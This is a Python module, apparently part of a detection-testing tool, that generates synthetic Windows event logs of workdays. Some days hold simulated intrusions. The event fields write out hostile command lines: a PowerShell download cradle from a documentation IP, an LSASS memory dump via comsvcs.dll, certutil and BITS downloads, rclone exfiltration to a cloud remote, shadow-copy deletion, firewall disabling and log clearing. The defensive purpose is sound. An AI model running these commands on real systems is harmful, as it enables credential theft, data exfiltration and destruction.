"""The event files of the sample: working days at the company, some with an attack in them, the same for the same seed.

The events are written here from knowledge of the formats (Sysmon 1, 10, 13; Security 1102, 4624, 4625, 4769; System
7045; PowerShell 4104; Defender 5007; BITS 59). No recording was used, and no host, account or address in it exists.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Final

from burgrave.sample.rules.assets import Computer
from burgrave.sample.rules.people import DOMAIN

QUIET_EVENTS: Final = 240
WORKDAY_MINUTES: Final = 480
PROGRAM_SHARE: Final = 0.7
"""Most of a workstation's log is programs that start; the rest is sign-ins."""
SYSMON: Final = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL: Final = "Microsoft-Windows-PowerShell/Operational"
DEFENDER: Final = "Microsoft-Windows-Windows Defender/Operational"
BITS: Final = "Microsoft-Windows-Bits-Client/Operational"
AUDITING: Final = "Microsoft-Windows-Security-Auditing"
PROVIDERS: Final = {
    ("Security", 1102): "Microsoft-Windows-Eventlog",
    ("Security", 4624): AUDITING,
    ("Security", 4625): AUDITING,
    ("Security", 4769): AUDITING,
    ("System", 7045): "Service Control Manager",
}
SYSTEM32: Final = "C:\\Windows\\System32\\"
SHELL: Final = SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
WORD: Final = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
TRIED: Final = (
    "administrator", "admin", "scada", "operator", "wartung", "service", "backup", "engineer", "vpn", "guest", "test",
    "ext-maint2", "ext-maint1",
)  # fmt: skip
"""Accounts that somebody outside tries in this order: guesses first, then what stands in a contract."""
NO_SUCH_ACCOUNT, WRONG_PASSWORD = "0xc0000064", "0xc000006a"
WORKER: Final = SYSTEM32 + r"inetsrv\w3wp.exe"
PROGRAMS: Final = (
    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r"C:\Windows\explorer.exe", "EXCEL.EXE /dde"),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r"C:\Windows\explorer.exe",
        "chrome.exe --type=renderer",
    ),
    (SYSTEM32 + "svchost.exe", SYSTEM32 + "services.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    (SYSTEM32 + "conhost.exe", SYSTEM32 + "cmd.exe", r"conhost.exe 0xffffffff -ForceV1"),
    (SYSTEM32 + "notepad.exe", r"C:\Windows\explorer.exe", r"notepad.exe C:\Users\Public\notes.txt"),
    (r"C:\Program Files\7-Zip\7zG.exe", r"C:\Windows\explorer.exe", "7zG.exe a monthly-report.7z"),
)


@dataclass(slots=True)
class Day:
    """Collects events and numbers them per computer and channel, as Windows does."""

    begins: datetime
    chance: random.Random
    events: list[tuple[datetime, dict[str, object]]] = field(default_factory=list)
    numbers: dict[tuple[str, str], int] = field(default_factory=dict)

    def add(self, minutes: float, computer: str, channel: str, event_id: int, fields: Mapping[str, str]) -> None:
        at = self.begins + timedelta(minutes=minutes)
        key = (computer, channel)
        self.numbers[key] = self.numbers.get(key, 41_000) + 1
        system: dict[str, object] = {
            "Provider": {"#attributes": {"Name": PROVIDERS.get((channel, event_id), channel.partition("/")[0])}},
            "EventID": event_id,
            "Channel": channel,
            "Computer": f"{computer}.{DOMAIN}",
            "EventRecordID": self.numbers[key],
            "TimeCreated": {
                "#attributes": {"SystemTime": at.isoformat(timespec="milliseconds").replace("+00:00", "Z")}
            },
        }
        self.events.append((at, {"Event": {"System": system, "EventData": dict(fields)}}))

    def process(self, minutes: float, computer: str, user: str, *, image: str, parent: str, command: str) -> None:
        self.add(
            minutes,
            computer,
            SYSMON,
            1,
            {
                "UtcTime": (self.begins + timedelta(minutes=minutes)).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "ProcessId": str(self.chance.randrange(1_000, 30_000, 4)),
                "Image": image,
                "CommandLine": command,
                "CurrentDirectory": "C:\\Windows\\system32\\",
                "User": "NT AUTHORITY\\SYSTEM" if user == "SYSTEM" else f"FENNMARK\\{user}",
                "IntegrityLevel": "System" if user == "SYSTEM" else "Medium",
                "ParentImage": parent,
                "ParentCommandLine": parent,
            },
        )


def day_of_events(
    scenes: Sequence[str], hosts: Sequence[Computer], *, around: Sequence[Computer], begins: datetime, seed: str
) -> bytes:
    """JSON lines in the order of time: a working day among the computers ``around``, with these scenes on ``hosts``.

    ``scanner@2`` plays on the third host and those after it. ``begins`` is aware UTC.
    """
    day = Day(begins=begins, chance=random.Random(seed))  # noqa: S311 - variety, not secrecy
    _quiet(day, around)
    for scene in scenes:
        name, _at, place = scene.partition("@")
        SCENES[name](day, hosts[int(place or 0) :])
    return b"".join(_lines(day))


WORKDAY_COMPUTERS: Final = tuple(
    Computer(host=host, login=login, unit="sales_eu")
    for host, login in (
        ("WS-0142", "s.moreau"),
        ("WS-0117", "m.okafor"),
        ("WS-0163", "j.lindqvist"),
        ("WS-0188", "p.ramanathan"),
        ("WS-0201", "t.nakagawa"),
    )
)


def workday(*, begins: datetime, seed: int) -> bytes:
    """One working day with an intrusion by itself, without a company around it: for trials and measurements."""
    hosts = (WORKDAY_COMPUTERS[0], Computer(host="SRV-FILE01", login="", unit="infrastructure"))
    return day_of_events(["intrusion"], hosts, around=WORKDAY_COMPUTERS, begins=begins, seed=f"workday {seed}")


STORM_COMPUTERS: Final = 300
"""With seven rules on each, one file of a large sample raises some two thousand alerts."""


def storm(computers: Sequence[Computer], *, begins: datetime, seed: str) -> bytes:
    """JSON lines of a day on which every computer shows every sign: for load tests, not for the eye."""
    day = Day(begins=begins, chance=random.Random(seed))  # noqa: S311 - variety, not secrecy
    _quiet(day, [each for each in computers if each.login])
    for computer in computers[:STORM_COMPUTERS]:
        for scene in (_start_key, _exclusion, _scanner, _deploy):
            scene(day, [computer])
        _service(day, 163.5, computer.host)
        day.add(179.0, computer.host, "Security", 1102, {"SubjectUserName": "svc-backup"})
    return b"".join(_lines(day))


def _lines(day: Day) -> Iterator[bytes]:
    for _at, event in sorted(day.events, key=lambda pair: pair[0]):
        yield json.dumps(event, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"


def _quiet(day: Day, around: Sequence[Computer]) -> None:
    for _ in range(QUIET_EVENTS):
        minutes, computer = day.chance.uniform(0, WORKDAY_MINUTES), day.chance.choice(around)
        if day.chance.random() < PROGRAM_SHARE:
            image, parent, command = day.chance.choice(PROGRAMS)
            day.process(minutes, computer.host, computer.login, image=image, parent=parent, command=command)
        else:
            fields = {
                "TargetUserName": computer.login,
                "TargetDomainName": "FENNMARK",
                "LogonType": "3",
                "IpAddress": "2001:db8:0::17",
                "LogonProcessName": "Kerberos",
            }
            day.add(minutes, "SRV-FILE01", "Security", 4624, fields)


def _intrusion(day: Day, hosts: Sequence[Computer]) -> None:
    """A document, a script, stolen credentials, a neighbour, and the traces wiped."""
    first, second, user = hosts[0].host, hosts[1].host, hosts[0].login
    encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    day.process(141.2, first, user, image=SHELL, parent=WORD, command=f"powershell.exe -NoP -W Hidden -Enc {encoded}")
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.24/u.ps1')"
    fields = {"ScriptBlockText": script, "Path": "", "MessageNumber": "1", "MessageTotal": "1"}
    day.add(141.3, first, POWERSHELL, 4104, fields)
    day.process(143.0, first, user, image=SYSTEM32 + "whoami.exe", parent=SHELL, command="whoami /all")
    listing = 'net group "Domain Admins" /domain'
    day.process(143.4, first, user, image=SYSTEM32 + "net.exe", parent=SHELL, command=listing)
    dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\d.bin full"
    day.process(151.8, first, "SYSTEM", image=SYSTEM32 + "rundll32.exe", parent=SHELL, command=dump)
    day.add(
        151.9, first, SYSMON, 10,
        {
            "SourceImage": SYSTEM32 + "rundll32.exe",
            "TargetImage": SYSTEM32 + "lsass.exe",
            "GrantedAccess": "0x1fffff",
            "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\comsvcs.dll+27e01",
            "SourceUser": "NT AUTHORITY\\SYSTEM",
        },
    )  # fmt: skip
    _service(day, 163.5, second)
    _wipe(day, 171.0, second)


def _service(day: Day, minutes: float, host: str) -> None:
    fields = {
        "ServiceName": "UpdateHelper",
        "ImagePath": r"%COMSPEC% /c powershell.exe -nop -w hidden -c IEX ((gwmi Win32_Service).Name)",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    day.add(minutes, host, "System", 7045, fields)


def _wipe(day: Day, minutes: float, host: str) -> None:
    for later, program, command in (
        (0.0, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        (0.6, "bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
    ):
        parent = SYSTEM32 + "cmd.exe"
        day.process(minutes + later, host, "SYSTEM", image=SYSTEM32 + program, parent=parent, command=command)
    fields = {"SubjectUserName": "svc-backup", "SubjectDomainName": "FENNMARK", "SubjectLogonId": "0x3e7a1"}
    day.add(minutes + 8, host, "Security", 1102, fields)


def _web_shell(day: Day, hosts: Sequence[Computer]) -> None:
    """A hole in the shop: commands by the web server, a download, and a look at the database."""
    web = hosts[0].host
    for minutes, program, command in (
        (62.1, "cmd.exe", '"cmd.exe" /c whoami'),
        (62.9, "cmd.exe", '"cmd.exe" /c ipconfig /all'),
        (75.4, "powershell.exe", "powershell.exe -c Get-ChildItem D:\\shop"),
    ):
        image = SHELL if program == "powershell.exe" else SYSTEM32 + program
        day.process(minutes, web, "svc-web", image=image, parent=WORKER, command=command)
    fetch = "certutil.exe -urlcache -split -f https://203.0.113.77/a.txt a.ps1"
    day.process(80.2, web, "svc-web", image=SYSTEM32 + "certutil.exe", parent=SYSTEM32 + "cmd.exe", command=fetch)


def _tickets_and_copies(day: Day, hosts: Sequence[Computer]) -> None:
    """Tickets of service accounts, then the drawings on their way to somebody's cloud."""
    directory, files, user = hosts[0].host, hosts[1].host, hosts[2].login
    for place, service in enumerate(("svc-sql", "svc-plm", "svc-backup")):
        fields = {
            "TargetUserName": f"{user}@{DOMAIN.upper()}",
            "ServiceName": service,
            "TicketEncryptionType": "0x17",
            "TicketOptions": "0x40810000",
            "Status": "0x0",
        }
        day.add(203.0 + place / 10, directory, "Security", 4769, fields)
    copy = r"rclone.exe copy D:\drawings mega:d -q --transfers 12"
    day.process(311.5, files, user, image=r"C:\Users\Public\rclone.exe", parent=SYSTEM32 + "cmd.exe", command=copy)


def _guessing(day: Day, hosts: Sequence[Computer]) -> None:
    """Many accounts, two passwords each, from one address, until one of them lets in."""
    jump, outside = hosts[0].host, {"IpAddress": "203.0.113.58", "LogonType": "3", "TargetDomainName": "FENNMARK"}
    for place, account in enumerate(TRIED):
        why = WRONG_PASSWORD if account.startswith("ext-") else NO_SUCH_ACCOUNT
        refused = {**outside, "TargetUserName": account, "Status": "0xc000006d", "SubStatus": why}
        for word in range(2):
            day.add(21.0 + place * 0.5 + word * 0.2, jump, "Security", 4625, refused)
    day.add(27.6, jump, "Security", 4624, {**outside, "TargetUserName": TRIED[-1], "LogonProcessName": "NtLmSsp"})


def _maintenance(day: Day, hosts: Sequence[Computer]) -> None:
    """Somebody with the account of the maintenance firm on the control computer, outside of the agreed hours."""
    jump, control, user = hosts[0].host, hosts[1].host, "ext-maint1"
    shell, service = SYSTEM32 + "cmd.exe", r"C:\Windows\PSEXESVC.exe"
    day.process(34.1, jump, "SYSTEM", image=SYSTEM32 + "whoami.exe", parent=shell, command="whoami /all")
    day.process(35.0, control, user, image=shell, parent=service, command="cmd.exe")
    off = "netsh advfirewall set allprofiles state off"
    day.process(36.2, control, user, image=SYSTEM32 + "netsh.exe", parent=shell, command=off)


def _start_key(day: Day, hosts: Sequence[Computer]) -> None:
    """A parcel notice in the mail, and a program that starts with every sign-in."""
    host, user = hosts[0].host, hosts[0].login
    fields = {
        "EventType": "SetValue",
        "Image": rf"C:\Users\{user}\Downloads\parcel.exe",
        "TargetObject": r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\Sync",
        "Details": rf"C:\Users\{user}\AppData\Roaming\svchost.exe",
    }
    day.add(118.4, host, SYSMON, 13, fields)
    day.add(119.0, host, BITS, 59, {"name": "job", "url": "http://203.0.113.9/a.exe"})


def _new_service(day: Day, hosts: Sequence[Computer]) -> None:
    _service(day, 212.0, hosts[0].host)


def _exclusion(day: Day, hosts: Sequence[Computer]) -> None:
    value = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public = 0x0"
    day.add(255.0, hosts[0].host, DEFENDER, 5007, {"NewValue": value})


def _scanner(day: Day, hosts: Sequence[Computer]) -> None:
    host = hosts[0]
    image = r"C:\Users\Public\netscan.exe"
    day.process(92.0, host.host, host.login, image=image, parent=r"C:\Windows\explorer.exe", command="netscan.exe")


def _deploy(day: Day, hosts: Sequence[Computer]) -> None:
    """The own rollout of programs, which looks like an attack and is none."""
    script = "IEX (New-Object Net.WebClient).DownloadString('https://deploy.fennmark.example/agent.ps1')"
    fields = {"ScriptBlockText": script, "Path": "", "MessageNumber": "1", "MessageTotal": "1"}
    for place, host in enumerate(hosts):
        day.add(20.0 + place * 3, host.host, POWERSHELL, 4104, fields)


def _nothing(_day: Day, _hosts: Sequence[Computer]) -> None:
    """A day on which nothing happened."""


SCENES: Final[Mapping[str, Callable[[Day, Sequence[Computer]], None]]] = {
    "intrusion": _intrusion,
    "web_shell": _web_shell,
    "tickets_and_copies": _tickets_and_copies,
    "guessing": _guessing,
    "maintenance": _maintenance,
    "start_key": _start_key,
    "exclusion": _exclusion,
    "scanner": _scanner,
    "deploy": _deploy,
    "service": _new_service,
    "nothing": _nothing,
}
